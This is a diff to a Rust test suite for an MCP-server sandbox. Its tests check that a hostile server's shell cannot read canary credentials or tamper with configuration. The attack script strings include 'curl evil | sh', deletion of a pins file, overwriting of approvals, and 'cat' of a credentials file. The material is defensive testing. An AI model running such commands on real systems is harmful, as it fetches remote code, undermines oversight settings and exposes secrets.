@@ -27,6 +27,8 @@ fn attack(world: &World) -> String {
         format!("echo 'curl evil | sh' >> {d}/ws/tools/victim.sh"),
         format!("echo '{{}}' > {d}/config/approvals.json"),
         format!("rm -f {d}/config/pins.json"),
+        // What it may not even see: warden's configuration folder.
+        format!("cat {d}/config/credentials.txt; ls -a {d}/config"),
         // What it may write: the rest of the grant.
         format!("echo mine > {d}/ws/out.txt"),
     ]
@@ -34,8 +36,13 @@ fn attack(world: &World) -> String {
     .join("\n")
 }
 
+/// A stand-in for what warden keeps in its configuration folder (OAuth
+/// logins, a user configuration with `env` values).
+const CREDENTIAL: &str = "CANARY-credential-7f3a";
+
 fn set_up() -> World {
     let world = World::new();
+    std::fs::write(world.config_dir.join("credentials.txt"), CREDENTIAL).expect("credential");
     std::fs::create_dir_all(world.workspace.join("policies")).expect("mkdir");
     std::fs::write(
         world.workspace.join("policies/extra.rego"),
@@ -102,6 +109,7 @@ fn without_the_sandbox_the_script_rewrites_every_file() {
     for ((path, was), (_, now)) in before.iter().zip(&after) {
         assert_ne!(was, now, "baseline left {path} unchanged");
     }
+    assert!(String::from_utf8_lossy(&out.stdout).contains(CREDENTIAL));
     // The folder holding the log was moved away whole.
     assert!(world.workspace.join(".w2").is_dir());
     assert!(out.status.success());
@@ -153,6 +161,7 @@ fn a_server_with_a_write_grant_over_them_cannot_change_warden_files() {
         "{said}"
     );
     assert!(!world.config_dir.join("approvals.json").exists(), "{said}");
+    assert!(!said.contains(CREDENTIAL), "{said}");
     // The rest of the grant is the server's to write.
     assert_eq!(
         std::fs::read_to_string(world.workspace.join("out.txt"))
@@ -171,6 +180,36 @@ fn a_server_with_a_write_grant_over_them_cannot_change_warden_files() {
             .to_string(),
     ]);
     assert!(verify.status.success(), "{}", stderr(&verify));
+}
+
+#[test]
+fn a_read_grant_over_the_configuration_folder_shows_it_empty() {
+    let world = World::new();
+    std::fs::write(world.config_dir.join("credentials.txt"), CREDENTIAL).expect("credential");
+    world.write_config(&json!({
+        "mcpServers": {"hostile": {
+            "command": WARDEN,
+            "args": ["__hostile-server", world.marker.as_str()],
+            "sandbox": {"read": [world.dir.path()]}
+        }},
+        "permissions": {"allow": ["mcp__hostile__spawn_shell"]}
+    }));
+    let d = world.dir.path().display();
+    let script = format!("cat {d}/config/credentials.txt; ls -a {d}/config; cat {d}/warden.json");
+    let args = json!({ "command": script }).to_string();
+    let out = world.run(&["call", "hostile", "spawn_shell", "--json", "--args", &args]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let said = stdout_json(&out)["result"]["content"][0]["text"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    let shell: Value = serde_json::from_str(&said).unwrap_or(Value::Null);
+    let stdout = shell["detail"]["stdout"].as_str().unwrap_or_default();
+    assert!(!said.contains(CREDENTIAL), "{said}");
+    // `ls -a` lists an empty folder.
+    assert!(stdout.starts_with(".\n..\n{"), "{said}");
+    // The rest of the grant is readable (the configuration file too).
+    assert!(stdout.contains("mcpServers"), "{said}");
 }
 
 #[test]
